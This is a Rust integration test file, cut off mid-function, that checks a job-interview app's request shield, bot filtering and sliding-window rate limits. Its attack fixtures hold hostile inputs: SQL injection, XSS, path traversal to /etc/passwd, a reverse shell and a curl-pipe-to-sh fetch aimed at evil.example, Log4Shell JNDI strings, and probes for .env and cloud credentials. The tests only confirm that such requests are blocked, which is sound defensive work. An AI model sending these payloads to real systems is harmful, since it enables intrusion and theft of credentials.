//! The protection layer end to end through the router, on both stores: the shield (a table of
//! attacks blocked and of technical text accepted), the bot rules, the sliding windows (a burst
//! of 130 meets its first 429 after request 100; two instances sharing a table hold one count;
//! per user on the AI routes), each rule in each mode, the webhook's exemptions, the RateLimit
//! headers, and `GET /api/arcjet`.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use axum::body::Body;
use axum::extract::ConnectInfo;
use darasa::protect::window::{Limiter, SlidingWindow, Standing, Subject};
use darasa::protect::{Mode, Modes, Protection};
use darasa::store::{Condition, Item, Key, Page, Query, StoreResult, Table, Update, Write};
use darasa_tests::app::{
    Store, TestApp, TestAppBuilder, TestResponse, number, request, seed_window, window_item,
};
use darasa_tests::fixtures::{ALICE, BROWSER};
use darasa_tests::on_both_stores;
use http::{Method, Request, StatusCode};
use serde_json::json;
use uuid::Uuid;

fn live() -> Modes {
    Modes::LIVE
}

/// A clock stopped one second into the current minute, so a test's requests all fall in one
/// window whatever the machine's speed (window items still expire in real time, minutes later).
fn stopped_clock() -> Arc<dyn darasa::clock::Clock> {
    let now = time::OffsetDateTime::now_utc().unix_timestamp();
    darasa_tests::clerk::TestClock::new(now - now.rem_euclid(60) + 1).shared()
}

/// Rules in `modes` on a stopped clock.
fn rules(modes: Modes) -> Arc<Protection> {
    Arc::new(Protection::new(modes, stopped_clock()))
}

/// A request from `ip` with a browser's User-Agent (unless `headers` set another).
fn from(ip: &str, mut request: Request<Body>, headers: &[(&str, &str)]) -> Request<Body> {
    let addr: SocketAddr = format!("{ip}:40000").parse().expect("an address");
    request.extensions_mut().insert(ConnectInfo(addr));
    if !headers.iter().any(|(name, _)| name.eq_ignore_ascii_case("user-agent")) {
        request.headers_mut().insert("user-agent", BROWSER.parse().expect("a header"));
    }
    for (name, value) in headers {
        request.headers_mut().insert(
            http::HeaderName::from_bytes(name.as_bytes()).expect("a name"),
            value.parse().expect("a value"),
        );
    }
    request
}

async fn get(
    app: &TestApp,
    ip: &str,
    path: &str,
    token: Option<&str>,
    headers: &[(&str, &str)],
) -> TestResponse {
    app.send(from(ip, request(Method::GET, path, token, None, &[]), headers)).await
}

on_both_stores!(
    a_burst_meets_its_first_429_after_the_hundredth_request,
    two_instances_sharing_a_table_hold_one_count,
    attacks_are_blocked_and_technical_text_is_not,
    repeated_attacks_block_the_client_for_a_while,
    bots_are_refused_unless_they_are_allowed_kinds,
    dry_run_decides_and_off_skips,
    the_ai_routes_count_per_user_and_answer_in_plain_text,
    the_webhook_is_exempt_from_bot_and_user_rules,
    arcjet_reports_the_decision_and_the_limits,
    a_first_count_the_sliding_window_refuses_is_taken_back,
    a_count_is_one_call,
    a_clients_item_keeps_only_the_windows_that_count,
    a_block_holds_across_windows_and_its_item_outlives_it,
    spending_routes_read_while_counted_and_write_only_once_allowed,
    interview_starts_read_while_counted_and_take_tokens_only_once_allowed,
    a_request_refused_while_the_rules_are_built_leaves_no_count,
);

async fn a_burst_meets_its_first_429_after_the_hundredth_request(store: Store) {
    let app = TestApp::builder(store).shared_protection(rules(live())).build().await;
    let token = app.token(ALICE, &[]);
    let mut first_refused = None;
    for n in 1..=130 {
        let response = get(&app, "198.51.100.7", "/api/job-infos", Some(&token), &[]).await;
        if response.status == StatusCode::TOO_MANY_REQUESTS {
            first_refused.get_or_insert(n);
            response.assert_problem(StatusCode::TOO_MANY_REQUESTS, "RATE_LIMIT");
            let retry_after: u64 = response.header("retry-after").expect("Retry-After").parse().unwrap();
            assert!((1..=60).contains(&retry_after), "{retry_after}");
        } else {
            assert_eq!(response.status, StatusCode::OK, "request {n}: {}", response.text());
            assert!(first_refused.is_none(), "request {n} passed after a refusal");
            assert_eq!(response.header("ratelimit-policy"), Some("\"ip\";q=100;w=60"));
            let remaining = 100 - n;
            assert!(
                response
                    .header("ratelimit")
                    .is_some_and(|value| value.starts_with(&format!("\"ip\";r={remaining};t="))),
                "request {n}: {:?}",
                response.header("ratelimit")
            );
        }
    }
    assert_eq!(first_refused, Some(101));
    // Another client is not affected.
    assert_eq!(get(&app, "198.51.100.8", "/api/job-infos", Some(&token), &[]).await.status, StatusCode::OK);
}

async fn two_instances_sharing_a_table_hold_one_count(store: Store) {
    // Two Lambda instances: one table, two routers, two sets of in-process caches. One clock:
    // two stopped clocks could stop either side of a minute's turn, in two different windows.
    let clock = stopped_clock();
    let instance = || Arc::new(Protection::new(live(), Arc::clone(&clock)));
    let first = TestApp::builder(store).shared_protection(instance()).build().await;
    let second =
        TestApp::builder(store).table(first.table.clone()).shared_protection(instance()).build().await;
    let token = first.token(ALICE, &[]);
    let mut allowed = 0;
    for n in 0..120 {
        let app = if n % 2 == 0 { &first } else { &second };
        if get(app, "198.51.100.9", "/api/job-infos", Some(&token), &[]).await.status == StatusCode::OK {
            allowed += 1;
        }
    }
    assert_eq!(allowed, 100, "one global count across both instances");
}

/// Requests that carry an attack in the path, the query or a header.
fn attacks() -> Vec<(String, Vec<(&'static str, &'static str)>)> {
    let paths = [
        "/api/job-infos?x=1%27%20UNION%20SELECT%20password%20FROM%20users--",
        "/api/job-infos?x=1'%20UNION%20SELECT%20password%20FROM%20users--",
        "/api/job-infos?id=1%20OR%201%3D1",
        "/api/job-infos?name=%27%3B%20DROP%20TABLE%20users%3B--",
        "/api/job-infos?q=%3Cscript%3Ealert(1)%3C%2Fscript%3E",
        "/api/job-infos?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E",
        "/api/job-infos?next=javascript:alert(document.cookie)",
        "/api/job-infos?file=../../../../etc/passwd",
        "/api/job-infos?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd",
        "/api/questions/..%2f..%2f..%2fetc%2fshadow",
        "/api/job-infos?cmd=%3B%20cat%20%2Fetc%2Fpasswd",
        "/api/job-infos?host=127.0.0.1%20%7C%20nc%20-e%20%2Fbin%2Fsh%20evil.example%204444",
        "/api/job-infos?x=%24(curl%20http%3A%2F%2Fevil.example%2Fx.sh%20%7C%20sh)",
        "/api/job-infos?x=%24%7Bjndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
        "/api/job-infos?x=%24%7B%24%7Blower%3Aj%7Dndi%3Aldap%3A%2F%2Fevil.example%2Fa%7D",
        "/.env",
        "/.git/config",
        "/wp-admin/",
        "/wp-login.php",
        "/phpmyadmin/index.php",
        "/.aws/credentials",
        "/server-status",
        "/cgi-bin/test.cgi",
        "/api/job-infos?page=http://169.254.169.254/latest/meta-data/",
        "/api/job-infos?x=1%20AND%20SLEEP(5)",
        "/api/job-infos?x=UnIoN%20SeLeCt%201,2,3",
    ];
    let mut cases: Vec<(String, Vec<(&'static str, &'static str)>)> =
        paths.iter().map(|path| ((*path).to_owned(), Vec::new())).collect();
    for header in [
        ("user-agent", "${jndi:ldap://evil.example/a}"),
        ("x-api-version", "${jndi:rmi://evil.example:1099/obj}"),
        ("referer", "http://example.com/?q=<script>alert(1)</script>"),
        ("x-forwarded-host", "evil.example; cat /etc/passwd"),
        ("cookie", "theme=dark; session=' OR '1'='1"),
        ("x-custom", "../../../../etc/passwd"),
    ] {
        cases.push(("/api/job-infos".to_owned(), vec![header]));
    }
    cases
}

/// Requests and bodies a real client sends: technical prose, SQL, HTML and shell in bodies,
/// ordinary queries and headers.
fn benign_requests() -> Vec<(String, Vec<(&'static str, &'static str)>)> {
    let paths = [
        "/api/job-infos",
        "/api/job-infos?limit=20",
        "/api/job-infos?limit=5&cursor=eyJwayI6IlVTRVIjdXNlcl9hbGljZSIsInNrIjoiSk9CSU5GTyMwMTkwIn0",
        "/api/me",
        "/api/arcjet",
        "/.well-known/jwks.json",
        "/api/job-infos?q=O'Reilly",
        "/api/job-infos?q=rock%20%26%20roll",
        "/api/job-infos?q=select%20a%20union%20rep",
        "/api/job-infos?q=drop%20shipping%20platform",
        "/api/job-infos?email=ada.lovelace%40example.com",
        "/api/job-infos?redirect=https%3A%2F%2Fapp.example.com%2Fjobs",
        "/api/job-infos?q=C%2B%2B%20and%20C%23",
        "/api/job-infos?q=node.js%20%26%20react",
        "/api/job-infos?title=Senior%20SQL%20Developer",
    ];
    let mut cases: Vec<(String, Vec<(&'static str, &'static str)>)> =
        paths.iter().map(|path| ((*path).to_owned(), Vec::new())).collect();
    for header in [
        ("accept", "*/*"),
        ("accept-language", "en-GB,en;q=0.9,fr;q=0.8"),
        ("referer", "https://app.example.com/jobs?tab=questions&sort=newest"),
        ("if-none-match", "W/\"2\", \"3\""),
        ("sec-ch-ua", "\"Chromium\";v=\"124\", \"Google Chrome\";v=\"124\", \"Not-A.Brand\";v=\"99\""),
        ("x-request-id", "0190b6b0-4a5e-7c3a-9f00-00000000e001"),
        ("traceparent", "00-4bf92f3577b34da6a3ce929d0e0e4736-00f067aa0ba902b7-01"),
        ("cookie", "theme=dark; tz=Europe/London"),
        ("origin", "https://app.example.com"),
        (
            "user-agent",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
        ),
        ("user-agent", "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"),
        ("user-agent", "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)"),
        ("content-type", "application/json; charset=utf-8"),
        ("cache-control", "no-cache"),
        ("dnt", "1"),
    ] {
        cases.push(("/api/job-infos".to_owned(), vec![header]));
    }
    cases
}

/// Job descriptions full of what the shield looks for, which must be accepted in bodies.
const TECHNICAL_TEXTS: &[&str] = &[
    "SELECT * FROM users WHERE id = 1 OR 1=1; <script>",
    "Write queries like SELECT name FROM jobs UNION SELECT name FROM archive; avoid DROP TABLE in migrations.",
    "Harden the API against ${jndi:ldap://x} payloads and ../../etc/passwd traversal.",
    "Run `curl https://example.com/install.sh | sh` and `cat /etc/hosts` in CI.",
    "Render <img src=x onerror=alert(1)> safely in React; know javascript: URLs.",
];

async fn attacks_are_blocked_and_technical_text_is_not(store: Store) {
    let app = TestApp::builder(store)
        .shared_protection(rules(Modes { rate_limit: Mode::Off, ..live() }))
        .build()
        .await;
    let token = app.token(ALICE, &[]);
    let attacks = attacks();
    assert!(attacks.len() >= 30);
    for (n, (path, headers)) in attacks.into_iter().enumerate() {
        // One client each, so no block from repeated hits changes what is measured.
        let ip = format!("203.0.113.{}", n + 1);
        let response =
            app.send(from(&ip, request(Method::GET, &path, Some(&token), None, &[]), &headers)).await;
        response.assert_problem(StatusCode::FORBIDDEN, "REQUEST_BLOCKED");
    }
    let benign = benign_requests();
    assert!(benign.len() >= 30);
    for (path, headers) in benign {
        let response = get(&app, "192.0.2.10", &path, Some(&token), &headers).await;
        assert!(response.status != StatusCode::FORBIDDEN, "{path} {headers:?}: {}", response.text());
    }
    for text in TECHNICAL_TEXTS {
        let body = json!({"name": "Backend", "experienceLevel": "senior", "description": text});
        let created = app
            .send(from(
                "192.0.2.10",
                request(Method::POST, "/api/job-infos", Some(&token), Some(body), &[]),
                &[],
            ))
            .await;
        assert_eq!(created.status, StatusCode::CREATED, "{text}: {}", created.text());
    }
}

async fn repeated_attacks_block_the_client_for_a_while(store: Store) {
    let app = TestApp::builder(store).shared_protection(rules(live())).build().await;
    let token = app.token(ALICE, &[]);
    for _ in 0..darasa::protect::SHIELD_BLOCK_AFTER {
        get(&app, "203.0.113.99", "/.env", None, &[])
            .await
            .assert_problem(StatusCode::FORBIDDEN, "REQUEST_BLOCKED");
    }
    // Now even a clean request of that client is refused; other clients are not.
    let response = get(&app, "203.0.113.99", "/api/job-infos", Some(&token), &[]).await;
    response.assert_problem(StatusCode::FORBIDDEN, "REQUEST_BLOCKED");
    assert!(response.json()["detail"].as_str().unwrap().contains("blocked for a while"));
    assert_eq!(get(&app, "203.0.113.100", "/api/job-infos", Some(&token), &[]).await.status, StatusCode::OK);
    // Another instance sharing the table sees the block too.
    let other =
        TestApp::builder(store).table(app.table.clone()).shared_protection(rules(live())).build().await;
    get(&other, "203.0.113.99", "/api/job-infos", Some(&token), &[])
        .await
        .assert_problem(StatusCode::FORBIDDEN, "REQUEST_BLOCKED");
}

async fn bots_are_refused_unless_they_are_allowed_kinds(store: Store) {
    let app = TestApp::builder(store).shared_protection(rules(live())).build().await;
    let token = app.token(ALICE, &[]);
    for agent in [
        "curl/8.5.0",
        "python-requests/2.31.0",
        "Go-http-client/1.1",
        "Scrapy/2.11.0 (+https://scrapy.org)",
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/124.0.0.0 Safari/537.36",
    ] {
        let response =
            get(&app, "192.0.2.20", "/api/job-infos", Some(&token), &[("user-agent", agent)]).await;
        response.assert_problem(StatusCode::FORBIDDEN, "BOT_DENIED");
    }
    let mut no_agent = request(Method::GET, "/api/job-infos", Some(&token), None, &[]);
    no_agent.extensions_mut().insert(ConnectInfo("192.0.2.21:1".parse::<SocketAddr>().unwrap()));
    app.send(no_agent).await.assert_problem(StatusCode::FORBIDDEN, "BOT_DENIED");
    for agent in [
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
        "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
        "Slackbot-LinkExpanding 1.0 (+https://api.slack.com/robots)",
        BROWSER,
    ] {
        let response =
            get(&app, "192.0.2.22", "/api/job-infos", Some(&token), &[("user-agent", agent)]).await;
        assert_eq!(response.status, StatusCode::OK, "{agent}: {}", response.text());
    }
}

async fn dry_run_decides_and_off_skips(store: Store) {
    let dry = Modes { shield: Mode::DryRun, bots: Mode::DryRun, rate_limit: Mode::DryRun };
    let app = TestApp::builder(store).shared_protection(rules(dry)).build().await;
    let token = app.token(ALICE, &[]);
    for n in 0..105 {
        let response = get(
            &app,
            "198.51.100.50",
            "/api/job-infos",
            Some(&token),
            &[("user-agent", "curl/8.5.0"), ("x-api-version", "${jndi:ldap://evil.example/a}")],
        )
        .await;
        assert_eq!(response.status, StatusCode::OK, "request {n}: dry run never denies");
    }
    let report = get(
        &app,
        "198.51.100.50",
        "/api/arcjet",
        Some(&token),
        &[("user-agent", "curl/8.5.0"), ("x-api-version", "${jndi:ldap://evil.example/a}")],
    )
    .await;
    let decided = report.json()["decision"]["rules"].clone();
    assert_eq!(report.json()["decision"]["conclusion"], "ALLOW");
    for (rule, expected) in [(0, "shield"), (1, "bots"), (2, "rate-limit")] {
        assert_eq!(decided[rule]["rule"], expected);
        assert_eq!(decided[rule]["mode"], "dry-run");
        assert_eq!(decided[rule]["conclusion"], "DENY", "{decided}");
    }

    let off = TestApp::builder(store).shared_protection(rules(Modes::OFF)).build().await;
    for _ in 0..105 {
        let response = get(
            &off,
            "198.51.100.51",
            "/api/job-infos",
            Some(&token),
            &[("user-agent", "curl/8.5.0"), ("x-api-version", "${jndi:ldap://evil.example/a}")],
        )
        .await;
        assert_eq!(response.status, StatusCode::OK);
        assert!(response.header("ratelimit").is_none(), "off: not evaluated, no headers");
    }
    let items = off.table.query(&darasa::store::Query::new("CLIENT#198.51.100.51", "")).await.unwrap();
    assert!(items.items.is_empty(), "off never touches the table");
}

async fn the_ai_routes_count_per_user_and_answer_in_plain_text(store: Store) {
    let app = TestApp::builder(store).shared_protection(rules(live())).build().await;
    let token = app.token(ALICE, &[]);
    let body = json!({"prompt": "easy", "jobInfoId": "0190b6b0-4a5e-7c3a-9f00-00000000e001"});
    let path = "/api/ai/questions/generate-question";
    // From many addresses, so the per-IP window is not what stops them.
    let mut first_refused = None;
    for n in 1..=110 {
        let ip = format!("10.0.{}.{}", n / 200, n % 200 + 1);
        let response = app
            .send(from(&ip, request(Method::POST, path, Some(&token), Some(body.clone()), &[]), &[]))
            .await;
        if response.status == StatusCode::TOO_MANY_REQUESTS {
            first_refused.get_or_insert(n);
            response.assert_plain(StatusCode::TOO_MANY_REQUESTS, "RATE_LIMIT");
            assert!(response.header("retry-after").is_some());
        } else {
            // The route's own answer (a token without a plan), after the layer let it by.
            response.assert_plain(StatusCode::FORBIDDEN, "PLAN_LIMIT");
            assert!(response.header("ratelimit-policy").is_some_and(|p| p.contains("\"user\";q=100;w=60")));
        }
    }
    assert_eq!(first_refused, Some(101));
    // Bob's own window is untouched.
    let bob = app.token("user_bob", &[]);
    let response =
        app.send(from("10.9.9.9", request(Method::POST, path, Some(&bob), Some(body), &[]), &[])).await;
    response.assert_plain(StatusCode::FORBIDDEN, "PLAN_LIMIT");
}

async fn the_webhook_is_exempt_from_bot_and_user_rules(store: Store) {
    const SECRET: &str = "whsec_ZGFyYXNhIHdlYmhvb2sgdGVzdHM6IGN1cnJlbnQ=";
    let app = TestApp::builder(store).shared_protection(rules(live())).webhook_secrets(SECRET).build().await;
    let webhook = svix::webhooks::Webhook::new(SECRET).unwrap();
    for n in 0..120 {
        let body = json!({"type": "session.created", "object": "event", "data": {"id": format!("sess_{n}")}})
            .to_string();
        let id = format!("msg_protect_{n}");
        let now = time::OffsetDateTime::now_utc().unix_timestamp();
        let signature = webhook.sign(&id, now, body.as_bytes()).unwrap();
        // Svix's own User-Agent, then none at all: bot rules never apply here.
        let agent = if n % 2 == 0 { Some("Svix-Webhooks/1.77.0") } else { None };
        let mut request = Request::post("/api/webhooks/clerk")
            .header("svix-id", &id)
            .header("svix-timestamp", now.to_string())
            .header("svix-signature", signature)
            .header("content-type", "application/json");
        if let Some(agent) = agent {
            request = request.header("user-agent", agent);
        }
        let mut request = request.body(Body::from(body)).unwrap();
        request.extensions_mut().insert(ConnectInfo("52.215.16.239:443".parse::<SocketAddr>().unwrap()));
        let response = app.send(request).await;
        assert_eq!(response.status, StatusCode::OK, "delivery {n}: {}", response.text());
        // Clerk's own deliveries are never counted (the window counts what is not).
        assert_eq!(response.header("ratelimit-policy"), None);
    }
}

async fn arcjet_reports_the_decision_and_the_limits(store: Store) {
    let app = TestApp::builder(store).shared_protection(rules(live())).build().await;
    let token = app.token(ALICE, &["1_interview"]);
    let response = get(&app, "198.51.100.77", "/api/arcjet", Some(&token), &[]).await;
    assert_eq!(response.status, StatusCode::OK, "{}", response.text());
    let report = response.json();
    assert_eq!(report["userId"], ALICE);
    assert_eq!(report["decision"]["conclusion"], "ALLOW");
    assert_eq!(report["decision"]["ip"], "198.51.100.77");
    let rules: Vec<&str> = report["decision"]["rules"]
        .as_array()
        .unwrap()
        .iter()
        .map(|rule| rule["rule"].as_str().unwrap())
        .collect();
    assert_eq!(rules, ["shield", "bots", "rate-limit"]);
    let limit = |name: &str| {
        report["limits"].as_array().unwrap().iter().find(|l| l["name"] == name).cloned().unwrap()
    };
    // This report is the client's first request.
    assert_eq!(limit("ip")["remaining"], 99);
    assert_eq!((limit("user")["max"].as_u64(), limit("user")["remaining"].as_u64()), (Some(100), Some(100)));
    assert_eq!(
        (limit("interviews")["max"].as_u64(), limit("interviews")["remaining"].as_u64()),
        (Some(12), Some(12))
    );
    assert_eq!(limit("hume-tokens")["remaining"], 12);
    assert_eq!(
        (
            limit("generations-in-flight")["max"].as_u64(),
            limit("generations-in-flight")["remaining"].as_u64()
        ),
        (Some(2), Some(2))
    );
    // It needs a token.
    get(&app, "198.51.100.77", "/api/arcjet", None, &[])
        .await
        .assert_problem(StatusCode::UNAUTHORIZED, "UNAUTHENTICATED");
}

/// The previous window's count is read from the answer to the first count, so a limiter that
/// has not met the client yet bounds that count by the whole limit; when the sliding window then
/// refuses the request, the count is taken back, so the item holds only the requests that went
/// through.
async fn a_first_count_the_sliding_window_refuses_is_taken_back(store: Store) {
    let app = TestApp::builder(store).build().await;
    let (start, now_ms) = this_window();
    for (client, previous_count, allowed) in [("full", 10, false), ("half", 4, true)] {
        let subject = Subject::new(format!("CLIENT#{client}"), TEN_A_MINUTE);
        seed_window(&app, &subject, json!({ format!("count#{}", start - 60_000): previous_count })).await;

        let standing =
            Limiter::new().hit(app.table.as_ref(), TEN_A_MINUTE, &subject, now_ms).await.expect("hit");
        let count = number(&app, &subject, &format!("count#{start}")).await;
        if allowed {
            // 10 less 4 carried over almost whole: 6 fit, this is the first.
            assert_eq!(standing, Standing::Allowed { remaining: 5, reset_seconds: 60 }, "{client}");
            assert_eq!(count, 1, "{client}");
        } else {
            assert!(matches!(standing, Standing::Limited { .. }), "{client}: {standing:?}");
            assert_eq!(count, 0, "{client}: the refused request is not counted");
        }
    }
}

/// A new instance counts a known client's request with one call: one conditional update of the
/// client's item, whose answer carries the previous window; the rest of the window, that instance
/// bounds its updates by what the previous window leaves and takes nothing back.
async fn a_count_is_one_call(store: Store) {
    let app = TestApp::builder(store).build().await;
    let (start, now_ms) = this_window();
    let subject = Subject::new("CLIENT#known".into(), TEN_A_MINUTE);
    seed_window(&app, &subject, json!({ format!("count#{}", start - 60_000): 4 })).await;
    let counting = Watched::new(app.table.clone());
    let limiter = Limiter::new();
    for n in 1..=6 {
        let standing = limiter.hit(&counting, TEN_A_MINUTE, &subject, now_ms).await.expect("hit");
        assert_eq!(standing, Standing::Allowed { remaining: 6 - n, reset_seconds: 60 }, "request {n}");
    }
    assert_eq!(counting.counter_calls(), 6, "one call per counted request");
    // The seventh is refused by the update's condition: one more read says until when, and then
    // the instance refuses without a call until then.
    for _ in 0..3 {
        let standing = limiter.hit(&counting, TEN_A_MINUTE, &subject, now_ms).await.expect("hit");
        assert!(matches!(standing, Standing::Limited { .. }), "{standing:?}");
    }
    assert_eq!(counting.counter_calls(), 8);
    assert_eq!(number(&app, &subject, &format!("count#{start}")).await, 6);
}

/// One item holds a client's windows: a count removes the window before the previous one, and an
/// item DynamoDB has not deleted yet after its TTL (the embedded store forgets it at once) is
/// cleared of every older window; what is left is the previous window and the current one.
async fn a_clients_item_keeps_only_the_windows_that_count(store: Store) {
    let app = TestApp::builder(store).build().await;
    let (start, now_ms) = this_window();
    let minute = 60_000;
    let live = Subject::new("CLIENT#live".into(), TEN_A_MINUTE);
    seed_window(
        &app,
        &live,
        json!({
            format!("count#{}", start - 10 * minute): 9,
            format!("shieldHits#{}", start - 10 * minute): 2,
            format!("count#{}", start - 2 * minute): 9,
            format!("count#{}", start - minute): 4,
        }),
    )
    .await;
    let standing = Limiter::new().hit(app.table.as_ref(), TEN_A_MINUTE, &live, now_ms).await.expect("hit");
    assert_eq!(
        standing,
        Standing::Allowed { remaining: 5, reset_seconds: 60 },
        "only the previous window carries"
    );
    assert_eq!(
        window_names(&app, &live).await,
        [format!("count#{}", start - minute), format!("count#{start}")]
    );

    let expired = Subject::new("CLIENT#expired".into(), TEN_A_MINUTE);
    let item = json!({
        "pk": expired.pk, "sk": expired.sk, "expiresAt": now_ms / 1000 - 60,
        format!("count#{}", start - 5 * minute): 10,
        "blockedUntil": now_ms - 1,
    });
    app.table.counters().put(item.as_object().cloned().expect("an item"), None).await.expect("seed");
    let standing = Limiter::new().hit(app.table.as_ref(), TEN_A_MINUTE, &expired, now_ms).await.expect("hit");
    assert_eq!(standing, Standing::Allowed { remaining: 9, reset_seconds: 60 });
    assert_eq!(window_names(&app, &expired).await, [format!("count#{start}")]);
    assert!(number(&app, &expired, "expiresAt").await > now_ms / 1000 + 60);
}

/// A block outlasts the windows in which the hits were counted: it holds across windows on every
/// instance, and the item's TTL covers it; a refused request writes nothing, so it cannot
/// shorten that TTL.
async fn a_block_holds_across_windows_and_its_item_outlives_it(store: Store) {
    use darasa::protect::{SHIELD_BLOCK, SHIELD_BLOCK_AFTER};
    let app = TestApp::builder(store).build().await;
    let (_, now_ms) = this_window();
    let subject = Subject::new("CLIENT#attacker".into(), TEN_A_MINUTE);
    let limiter = Limiter::new();
    let mut until = None;
    for _ in 0..SHIELD_BLOCK_AFTER {
        until = limiter
            .record_shield_hit(
                app.table.as_ref(),
                TEN_A_MINUTE,
                &subject,
                now_ms,
                SHIELD_BLOCK_AFTER,
                SHIELD_BLOCK,
            )
            .await
            .expect("a hit");
    }
    let until = until.expect("the last hit blocks");
    let block_ms = i64::try_from(SHIELD_BLOCK.as_millis()).expect("minutes");
    assert_eq!(until, now_ms + block_ms);
    assert!(block_ms > 2 * 60_000, "the block outlasts two windows");
    let ttl = number(&app, &subject, "expiresAt").await;
    assert!(ttl * 1000 >= until, "the TTL {ttl} covers the block until {until}");
    // Other instances, in later windows, meet the block; their refusals write nothing.
    for later in [now_ms + 1, now_ms + 3 * 60_000, until - 1_000] {
        let standing =
            Limiter::new().hit(app.table.as_ref(), TEN_A_MINUTE, &subject, later).await.expect("hit");
        assert!(matches!(standing, Standing::Blocked { .. }), "at +{} ms: {standing:?}", later - now_ms);
        let hit = Limiter::new()
            .record_shield_hit(
                app.table.as_ref(),
                TEN_A_MINUTE,
                &subject,
                later,
                SHIELD_BLOCK_AFTER,
                SHIELD_BLOCK,
            )
            .await
            .expect("a hit");
        assert_eq!(hit, None, "a hit while blocked starts nothing");
    }
    assert_eq!(number(&app, &subject, "expiresAt").await, ttl);
    // Once it ends, the client is counted again.
    let standing =
        Limiter::new().hit(app.table.as_ref(), TEN_A_MINUTE, &subject, until + 1).await.expect("hit");
    assert!(matches!(standing, Standing::Allowed { .. }), "{standing:?}");
}

/// The spending routes that start by reading send their reads while the request's windows are
/// counted, and wait at the gate before they take a slot or a quota unit or call the model: an
/// allowed request's first read goes out before the count has answered; a refused one writes
/// nothing outside the windows and calls no model.
async fn spending_routes_read_while_counted_and_write_only_once_allowed(store: Store) {
    use darasa_tests::gemini::{FakeGemini, Reply, test_policy};
    let fake = FakeGemini::start().await;
    let watching = Watching::start(store, |app| app.model(fake.model(test_policy()))).await;
    let (app, watched, setup) = (&watching.app, &watching.table, &watching.setup);
    // The job and a question are written through `setup`: without the layer, unwatched.
    let token = app.token(ALICE, darasa_tests::fixtures::PAID);
    let job = darasa_tests::fixtures::create_job(setup, &token).await;
    let question = darasa_tests::fixtures::seed_question(
        setup,
        ALICE,
        job,
        darasa::questions::Difficulty::Easy,
        "What is a ledger?",
    )
    .await;
    let resume = darasa_tests::documents::pdf("Jane Doe, payments engineer");
    // A request of the user `token` signs in, for `job` (or `question`, to grade it).
    let send = |ip: &'static str, path: &'static str, token: &str, job: Uuid, question: Uuid| {
        let (body, content_type) = match path {
            "/api/ai/resumes/analyze" => (
                darasa_tests::multipart::form(&[
                    darasa_tests::multipart::file("jane.pdf", "application/pdf", &resume),
                    darasa_tests::multipart::Field::Text("jobInfoId", &job.to_string()),
                ]),
                darasa_tests::multipart::content_type(),
            ),
            "/api/ai/questions/generate-feedback" => (
                json!({"prompt": "A book of accounts", "questionId": question}).to_string().into_bytes(),
                "application/json".to_owned(),
            ),
            _ => (
                json!({"prompt": "easy", "jobInfoId": job}).to_string().into_bytes(),
                "application/json".to_owned(),
            ),
        };
        let request = Request::post(path)
            .header("authorization", format!("Bearer {token}"))
            .header("content-type", content_type)
            .body(Body::from(body))
            .expect("a request");
        app.send(from(ip, request, &[]))
    };
    let routes = [
        "/api/ai/questions/generate-question",
        "/api/ai/questions/generate-feedback",
        "/api/ai/resumes/analyze",
    ];
    for path in routes {
        assert!(darasa::protect::layer::reads_then_gate(&Method::POST, Some(path)), "{path}");
    }

    let analysis = json!({
        "overallScore": 7, "ats": {}, "jobMatch": {}, "writingAndFormatting": {}, "keywordCoverage": {},
        "other": {},
    });
    for (path, reply) in routes.iter().zip([
        Reply::stream(&["What is a ledger?"], "STOP"),
        Reply::stream(&[&darasa_tests::fixtures::feedback_text(Some(7))], "STOP"),
        Reply::stream(&[&analysis.to_string()], "STOP"),
    ]) {
        fake.push(reply);
        watched.arm();
        let response = send("198.51.100.50", path, &token, job, question.id).await;
        assert_eq!(response.status, StatusCode::OK, "{path}: {}", response.text());
        let log = watched.disarm();
        assert!(log.read_during_count, "{path}: no read went out while the windows were counted");
        assert!(!log.writes.is_empty(), "{path}: an allowed request takes its slot");
    }
    let model_calls = fake.requests().len();

    // Allowed by the count, but for a job or question that is not Alice's: refused without
    // taking a slot or a quota unit only to give it back.
    for path in routes {
        watched.arm();
        let response = send("198.51.100.52", path, &token, Uuid::now_v7(), Uuid::now_v7()).await;
        response.assert_plain(StatusCode::FORBIDDEN, "You do not have permission to do this");
        assert_eq!(watched.disarm().writes, Vec::<String>::new(), "{path}: a refused request writes nothing");
    }
    // Nor for a user whose questions are spent (their plan's answer comes first, as read).
    let bob = app.token(darasa_tests::fixtures::BOB, darasa_tests::fixtures::FREE);
    let spent = Update::new().add(darasa::users::QUESTIONS_GENERATED, 5);
    setup
        .table
        .update(&darasa::users::usage_key(darasa_tests::fixtures::BOB), spent, None)
        .await
        .expect("usage");
    let bobs_job = darasa_tests::fixtures::create_job(setup, &bob).await;
    watched.arm();
    let response = send("198.51.100.53", routes[0], &bob, bobs_job, question.id).await;
    response.assert_plain(StatusCode::FORBIDDEN, "PLAN_LIMIT");
    let log = watched.disarm();
    assert!(log.read_during_count, "the allowance is read while counted");
    assert_eq!(log.writes, Vec::<String>::new(), "out of questions, nothing is taken");

    // Alice's window is full: each route is refused, having written nothing but the windows.
    let refused =
        |response: &TestResponse| response.assert_plain(StatusCode::TOO_MANY_REQUESTS, "RATE_LIMIT");
    watching
        .each_refused(&routes, |path| send("198.51.100.51", path, &token, job, question.id), refused)
        .await;
    assert_eq!(fake.requests().len(), model_calls, "no model call for a refused request");
}

/// Starting an interview and fetching a Hume token read the plan's allowance (and the job) while
/// their windows are counted, and take a token from their bucket only once the count allowed
/// them: a refused request writes nothing outside the windows.
async fn interview_starts_read_while_counted_and_take_tokens_only_once_allowed(store: Store) {
    let hume = darasa_tests::hume::FakeHume::start().await;
    let client = hume.client(darasa::clock::system(), std::time::Duration::from_secs(2));
    let watching = Watching::start(store, |app| app.hume(client)).await;
    let (app, watched, setup) = (&watching.app, &watching.table, &watching.setup);
    // The free plan: its allowance of one interview is read from the usage item.
